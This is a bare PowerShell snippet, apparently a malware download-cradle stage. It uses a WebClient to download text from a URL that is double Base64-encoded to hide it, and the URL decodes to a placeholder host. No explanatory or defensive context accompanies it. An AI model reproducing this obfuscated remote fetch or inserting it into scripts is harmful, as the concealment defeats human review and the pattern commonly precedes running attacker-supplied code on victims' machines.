$wc = New-Object System.Net.WebClient
$wc.DownloadString([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('YUhSMGNEb3ZMMkV1WlhoaGJYQnNaUzl3TDNndWRIaDA=')))))
